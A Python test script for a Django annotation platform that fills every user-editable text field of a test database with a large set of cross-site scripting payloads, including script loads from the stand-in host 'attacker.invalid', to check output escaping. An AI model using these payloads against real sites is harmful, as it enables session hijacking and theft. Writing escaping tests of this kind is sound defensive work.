"""Scripts in the place of words: in every text that somebody can enter, whoever that is.

`manage.py shell` calls `poison` in a running Minka in which there is a little of everything. Each text column of each
table, and texts in JSON, get as many payloads as fit, beginning with another one in each row.
"""

import itertools
import json
from collections.abc import Iterator
from typing import Any, Final

from django.apps import apps
from django.contrib.auth.models import Permission
from django.db import connections, models

from annotations.assignments.seats import next_for
from annotations.corpus.models import Source
from annotations.datasets.models import Release
from annotations.datasets.recalls.models import Retraction
from annotations.flagging.actions import report
from annotations.moderation.appeals.actions import appeal
from annotations.moderation.sanctions.models import Sanction
from annotations.people.consenting.models import ConsentText
from annotations.people.demo import volunteer
from annotations.people.models import Person
from annotations.people.rights.actions import ask
from annotations.people.stewards.actions import propose_variety
from annotations.reviewing.actions import open_reviews, settle_reviews
from tests.cast import answer, line, world

RUNS: Final = "window.ran=1"
"""What a payload does where it is not shown as the words it is."""
FOREIGN: Final = "//attacker.invalid/x"

_TAGS: Final = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee",
    "object data=x", "iframe", "select autofocus", "textarea autofocus", "math", "a href=x", "button",
)  # fmt: skip
_EVENTS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onanimationend", "onbegin")
_OUT_OF: Final = ("", '"', "'", "'>", '">', "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`", "\\")
_OTHERS: Final = (
    f"<script>{RUNS}</script>", f"<ScRiPt>{RUNS}</sCrIpT>", f"<script src={FOREIGN}></script>",
    f"<scr<script>ipt>{RUNS}</script>", f"<link rel=stylesheet href={FOREIGN}>", f"<style>@import '{FOREIGN}'</style>",
    f"<base href={FOREIGN}>", f"<meta http-equiv=refresh content='0;url={FOREIGN}'>", f"<img src={FOREIGN}>",
    f"<img srcset='{FOREIGN} 1x'>", f"<iframe srcdoc='<script>parent.{RUNS[7:]}</script>'>", f"<embed src={FOREIGN}>",
    f"<form action={FOREIGN}><input>", f"<a href='javascript:{RUNS}'>x</a>", f"<a href='java\tscript:{RUNS}'>x</a>",
    f"<svg><script>{RUNS}</script></svg>", f"<svg><use href='data:image/svg+xml,<svg onload={RUNS}>'></svg>",
    f"<math><mi xlink:href='javascript:{RUNS}'>x", f"<template><img src=x onerror={RUNS}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>", f"[x](javascript:{RUNS})", f"![x]({FOREIGN})",
    f"<{FOREIGN}>", f"[x](data:text/html,<script>{RUNS}</script>)", f"';{RUNS};'", f'";{RUNS};"', f"`${{{RUNS}}}`",
    f"{{{{constructor.constructor('{RUNS}')()}}}}", "{{ 7|add:7 }}", "{% debug %}",
    f"&lt;img src=x onerror={RUNS}&gt;", f"\\u003cimg src=x onerror={RUNS}\\u003e", f"%3Cimg src=x onerror={RUNS}%3E",
    f"＜img src=x onerror={RUNS}＞", f"<img src=x\x0conerror={RUNS}>", f"<img/src=x/onerror={RUNS}>",
    f"<!--><img src=x onerror={RUNS}>", f"<hx hx-on:load='{RUNS}'>", f"<p hx-get={FOREIGN} hx-trigger=load>",
    f"<p style='background:url({FOREIGN})'>",
)  # fmt: skip
PAYLOADS: Final = (
    *(f"{out}<{tag} {event}={RUNS}>" for out, (tag, event) in zip(
        itertools.cycle(_OUT_OF), itertools.product(_TAGS, _EVENTS), strict=False)),
    *(f"{out}<img src=x onerror={RUNS} x={number}>" for number, out in enumerate(_OUT_OF * 11)),
    *_OTHERS,
)  # fmt: skip

_NOT_TYPED: Final = {
    "annotations.Person.password", "annotations.Person.email", "annotations.Session.session_data",
    "annotations.WayBack.digest", "annotations.VouchCode.digest", "annotations.SensitiveFacts.sealed",
    "admin.LogEntry.object_id", "auth.Permission.name", "auth.Permission.codename",
    "contenttypes.ContentType.app_label", "contenttypes.ContentType.model",
    "account.EmailAddress.email", "knox.AuthToken.digest", "knox.AuthToken.token_key",
    "annotations.CommunityLabel.local_contexts_id",
}  # fmt: skip
"""What nobody types as words: digests, codes, what has a form of its own."""
_IN_JSON: Final = {"content", "text", "reason", "name", "source_id", "comment", "es", "pt", "pt-BR", "en"}
"""Names in JSON under which words stand; languages, where they are said in several."""
SHORTEST: Final = 80
"""A shorter column holds a code."""


def payloads(first: int, room: int) -> str:
    """As many as fit, from this one on; a short room holds one at least, cut."""
    said = ""
    for number in range(len(PAYLOADS)):
        more = PAYLOADS[(first + number) % len(PAYLOADS)]
        if said and len(said) + len(more) + 1 > room:
            break
        said = f"{said} {more}" if said else more[:room]
    return said


def write() -> None:
    """What volunteers write that the scene has nothing of, in a campaign of every kind, so that it can be poisoned."""
    bare = {"outputs": [], "variety": "es-CL"}
    campaign = world(
        *(line(kind, kind=kind, **bare) for kind in ("demonstration", "prompt", "translation")),
        line("flag", "Una por mirar.", kind="flag"), line("correction", "Una por mejorar.", kind="correction"),
        line("score", "Una sola.", kind="score"), *(line(f"vote {number}") for number in range(3)),
        slug="extranos", needed=1,
    )  # fmt: skip
    ana, *readers = (volunteer(f"{name}-ex", "muy-larga-y-rara-7", "es-CL") for name in ("ana", "bea", "caro", "dora"))
    flag = {"wrong": True, "categories": ["otro"], "severity": 1, "stance": "mentioned", "comment": "c",
            "counter_example": "d"}  # fmt: skip
    texts = ("demonstration", "prompt", "translation", "correction")
    for kind, said in [*((kind, {"text": "Con pebre."}) for kind in texts), ("flag", flag)]:
        seat = next_for(person=ana, campaign=campaign, of_kinds=[kind])
        assert seat is not None, kind
        answer(ana, seat, said)
    for person, said in ((ana, {"preferred": "a", "reason": "r"}), (readers[0], {"preferred": "b", "reason": "s"})):
        seat = next_for(person=person, campaign=campaign, of_kinds=["vote"])
        assert seat is not None
        answer(person, seat, said)
    seat = next_for(person=ana, campaign=campaign, of_kinds=["vote"])
    assert seat is not None
    report(person=ana, assignment_id=seat.pk, letter="a", answer=flag)
    open_reviews()
    accepts = {"decision": "accept"}
    said_by = zip(readers, ({"decision": "edit", "text": "Con harto pebre."}, accepts, accepts), strict=True)
    for reader, said in said_by:
        while seat := next_for(person=reader, campaign=campaign, of_kinds=["review"]):
            answer(reader, seat, said)
    settle_reviews()
    Source.objects.update(attribution="Por la comunidad.", url="https://corpus.example/")
    decided = Sanction.objects.create(kind="notice", person=ana, code="other", words="Despacio.")
    appeal(person=ana, sanction=decided.pk, text="No fue así.")
    Retraction.objects.create(release=Release.objects.latest("pk"), reason="wrong", why="Se mezclaron dos.")
    ConsentText.objects.create(name="2027-01", texts={"es": "Sí.\n---\nSí."}, sha256="0" * 64)
    ask(person=ana, kind="other", text="¿Qué saben de mí?")
    propose_variety(person=ana, name="n", place="p", why="w")


def poison() -> None:
    """Prints of which columns how many texts are poisoned."""
    done: dict[str, int] = {}
    with connections["owner"].cursor() as cursor:
        cursor.execute("SET session_replication_role = replica")  # what the database itself refuses is not asked here
        for model, field in _texts():
            done[f"{model.__name__}.{field.name}"] = _poison(cursor, model, field)
        cursor.execute("SET session_replication_role = origin")
    boss = volunteer("jefa-ve", "muy-larga-y-rara-7", "es-MX")
    boss.user_permissions.set(Permission.objects.filter(codename__startswith="view_"))
    Person.objects.filter(pk=boss.pk).update(is_staff=True, is_superuser=True)
    print("\n" + json.dumps(done))


def _texts() -> Iterator[tuple[Any, Any]]:
    for model in apps.get_models():
        for field in model._meta.local_concrete_fields:
            is_code = isinstance(field, models.ForeignKey) or field.choices
            is_short = isinstance(field, models.CharField) and field.max_length < SHORTEST
            is_text = isinstance(field, (models.CharField, models.TextField, models.JSONField))
            if is_text and not is_code and not is_short and f"{model._meta.label}.{field.name}" not in _NOT_TYPED:
                yield model, field


def _poison(cursor: Any, model: Any, field: Any) -> int:
    key, column, table = model._meta.pk.column, field.column, model._meta.db_table
    cursor.execute(f"SELECT {key}, {column} FROM {table}")
    rows = [(pk, said) for pk, said in cursor.fetchall() if said not in (None, "")]
    for number, (pk, said) in enumerate(rows):
        value: Any
        if isinstance(field, models.JSONField):
            value = json.dumps(_spoiled(json.loads(said) if isinstance(said, str) else said, 7 * number))
        else:
            ending = f" {pk}" if field.max_length else ""
            value = payloads(7 * number, (field.max_length or 20_000) - len(ending)) + ending
        cursor.execute(f"UPDATE {table} SET {column} = %s WHERE {key} = %s", [value, pk])
    return len(rows)


def _spoiled(told: Any, first: int) -> Any:
    if isinstance(told, list):
        return [_spoiled(each, first) for each in told]
    if isinstance(told, dict):
        return {
            name: payloads(first, 20_000) if name in _IN_JSON and isinstance(each, str) else _spoiled(each, first)
            for name, each in told.items()
        }
    return told
